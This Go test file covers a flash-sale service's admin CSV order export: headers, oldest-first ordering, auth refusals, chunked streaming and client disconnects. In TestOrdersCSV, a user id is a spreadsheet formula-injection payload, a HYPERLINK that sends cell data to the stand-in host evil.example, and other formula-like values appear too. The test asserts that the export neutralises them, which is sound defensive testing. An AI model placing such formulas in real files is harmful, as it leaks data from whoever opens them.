package checkout_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/flashsale/flashsale/testenv"
)

func ordersCSVPath(saleID string) string { return "/api/v1/admin/sales/" + saleID + "/orders.csv" }

// insertOrders writes n cancelled orders of the sale straight into MySQL
// (cancelled: they hold no units, so the sale's counts stay right), users
// named by user(i), created a millisecond apart from base.
func insertOrders(t *testing.T, s *testenv.Server, saleID string, n int, base time.Time, user func(int) string) {
	t.Helper()
	for start := 0; start < n; start += 1000 {
		end := min(n, start+1000)
		var sb strings.Builder
		args := make([]any, 0, 4*(end-start))
		sb.WriteString(`INSERT INTO orders (id, sale_id, user_id, quantity, amount_cents, currency, status, created_at) VALUES `)
		for i := start; i < end; i++ {
			if i > start {
				sb.WriteString(",")
			}
			sb.WriteString(`(?, ?, ?, 1, 1000, 'EUR', 'cancelled', ?)`)
			args = append(args, fmt.Sprintf("ord_%s_%06d", saleID, i), saleID, user(i), base.Add(time.Duration(i)*time.Millisecond))
		}
		_, err := s.DB.Exec(sb.String(), args...)
		require.NoError(t, err)
	}
}

// TestOrdersCSV: the export is the sale's orders, oldest first, as a CSV
// download; cells a spreadsheet would run as a formula start with an
// apostrophe, and commas, quotes and line breaks in a user id survive.
func TestOrdersCSV(t *testing.T) {
	t.Parallel()
	s := testenv.Start(t)
	id := newSale(t, s, map[string]any{"stock": 5, "price_cents": 2500, "hold_ttl_seconds": 300})
	other := newSale(t, s, map[string]any{"stock": 5})

	// One real purchase, by a user whose id is a formula.
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	r := buy(t, s, id, s.Ticket(id, formula, time.Minute), nil)
	require.Equal(t, http.StatusCreated, r.Status, "%s", r.Body)
	bought := r.JSON(t)
	odd := []string{"+1-555-0100", "-2+3", "@SUM(A1:A9)", "\tx", "a,b", `say "hi"`, "two\nlines", "ünï|{x}"}
	insertOrders(t, s, id, len(odd), time.Now().Add(time.Hour), func(i int) string { return odd[i] })
	insertOrders(t, s, other, 1, time.Now(), func(int) string { return "not-in-this-sale" })

	r = s.Do(t, "GET", ordersCSVPath(id), s.AdminToken, nil)
	require.Equal(t, http.StatusOK, r.Status, "%s", r.Body)
	require.Equal(t, "text/csv; charset=utf-8", r.Header.Get("Content-Type"))
	require.Equal(t, `attachment; filename="orders-`+id+`.csv"`, r.Header.Get("Content-Disposition"))
	require.Equal(t, "no-store", r.Header.Get("Cache-Control"))
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	require.NoError(t, err, "%s", r.Body)
	require.Len(t, rows, 1+1+len(odd))
	require.Equal(t, []string{"id", "sale_id", "user_id", "quantity", "amount_cents", "currency", "status",
		"created_at", "hold_expires_at"}, rows[0])
	first := rows[1]
	require.Equal(t, []string{bought["id"].(string), id, "'" + formula, "1", "2500", "EUR", "held", bought["created_at"].(string),
		bought["hold_expires_at"].(string)}, first)
	want := []string{"'+1-555-0100", "'-2+3", "'@SUM(A1:A9)", "'\tx", "a,b", `say "hi"`, "two\nlines", "ünï|{x}"}
	for i, w := range want {
		require.Equal(t, w, rows[2+i][2], "row %d", i)
		require.Equal(t, "cancelled", rows[2+i][6])
		require.Equal(t, "", rows[2+i][8], "no hold")
	}
	require.Contains(t, string(r.Body), `"say ""hi"""`, "quotes are doubled inside a quoted cell")
	require.NotContains(t, string(r.Body), "not-in-this-sale")

	// A sale without orders is the header alone.
	r = s.Do(t, "GET", ordersCSVPath(newSale(t, s, nil)), s.AdminToken, nil)
	require.Equal(t, http.StatusOK, r.Status)
	require.Equal(t, "id,sale_id,user_id,quantity,amount_cents,currency,status,created_at,hold_expires_at\n", string(r.Body))
}

// TestOrdersCSVRefusals: only the admin token exports (401 in the
// contract's shape otherwise); an unknown sale is 404; another method 405.
func TestOrdersCSVRefusals(t *testing.T) {
	t.Parallel()
	s := testenv.Start(t)
	id := newSale(t, s, nil)
	for _, tok := range []string{"", s.ServiceToken, s.UserToken(t, "alice"), s.AdminToken + "x"} {
		requireError(t, s.Do(t, "GET", ordersCSVPath(id), tok, nil), http.StatusUnauthorized, "unauthorized")
	}
	requireError(t, s.Do(t, "GET", ordersCSVPath("no-such-sale"), s.AdminToken, nil), http.StatusNotFound, "not_found")
	requireError(t, s.Do(t, "GET", ordersCSVPath("Not_A_Sale"), s.AdminToken, nil), http.StatusNotFound, "not_found")
	r := s.Do(t, "POST", ordersCSVPath(id), s.AdminToken, nil)
	requireError(t, r, http.StatusMethodNotAllowed, "method_not_allowed")
	require.Equal(t, "GET, HEAD", r.Header.Get("Allow"))
}

// TestOrdersCSVStreams: a sale of many orders streams (chunked, no length
// known up front: the rows are never all in memory), in order; a client
// that hangs up midway costs nothing (MySQL's breaker stays closed).
func TestOrdersCSVStreams(t *testing.T) {
	t.Parallel()
	s := testenv.Start(t)
	id := newSale(t, s, nil)
	const n = 30000
	insertOrders(t, s, id, n, time.Now().Add(-time.Hour), func(i int) string { return fmt.Sprintf("user-%05d", i) })

	get := func(ctx context.Context) *http.Response {
		req, err := http.NewRequestWithContext(ctx, "GET", s.URL+ordersCSVPath(id), nil)
		require.NoError(t, err)
		req.Header.Set("Authorization", "Bearer "+s.AdminToken)
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		return resp
	}
	resp := get(context.Background())
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.EqualValues(t, -1, resp.ContentLength, "streamed, not buffered to a known length")
	require.Equal(t, []string{"chunked"}, resp.TransferEncoding)
	rd := csv.NewReader(resp.Body)
	head, err := rd.Read()
	require.NoError(t, err)
	require.Equal(t, "id", head[0])
	for i := range n {
		row, err := rd.Read()
		require.NoError(t, err, "row %d", i)
		require.Equal(t, fmt.Sprintf("user-%05d", i), row[2], "oldest first")
	}
	_, err = rd.Read()
	require.ErrorIs(t, err, io.EOF)
	resp.Body.Close()

	// Hang up after the first rows.
	ctx, cancel := context.WithCancel(context.Background())
	resp = get(ctx)
	_, err = io.ReadFull(resp.Body, make([]byte, 4096))
	require.NoError(t, err)
	cancel()
	resp.Body.Close()
	r := s.Do(t, "GET", "/readyz", "", nil)
	require.Equal(t, http.StatusOK, r.Status, "%s", r.Body)
	r = s.Do(t, "GET", ordersCSVPath(id), s.AdminToken, nil)
	require.Equal(t, http.StatusOK, r.Status)
	require.Equal(t, n+1, strings.Count(string(r.Body), "\n"))
}
